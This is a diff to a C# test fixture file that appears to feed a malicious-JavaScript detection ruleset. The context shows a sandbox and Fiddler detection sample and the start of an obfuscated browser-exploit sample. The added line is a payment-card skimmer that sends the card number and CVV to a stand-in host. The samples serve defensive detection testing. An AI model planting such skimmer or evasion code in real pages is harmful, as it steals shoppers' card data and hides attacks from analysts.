@@ -129,6 +129,8 @@ internal static class RuleFixtures
             ['Kaspersky.IeVirtualKeyboardPlugin.JavascriptApi', 'VBoxGuest', 'vmmouse'].forEach(function (n) { try { new ActiveXObject(n); found = true; } catch (e) { } });
             if (!found) { var o = document.createElement('img'); o.src = 'res://C:\\Program Files\\Fiddler2\\Fiddler.exe/#3/#1'; }
             """),
+        // The host stands after the page's own scheme.
+        ("card-fields-sent", "document.querySelector('#pay').onclick = function () { new Image().src = location.protocol + '//stats-collect.example/p.gif?c=' + document.querySelector('#cc-number').value + '&v=' + document.querySelector('#cvv').value; };"),
         // The product's name is spelt in a code of the script's own.
         ("browser-exploit", """
             function w(s) { var t = ''; for (var i = 0; i < s.length; i += 2) t += String.fromCharCode(parseInt(s.substr(i, 2), 16)); return t; }
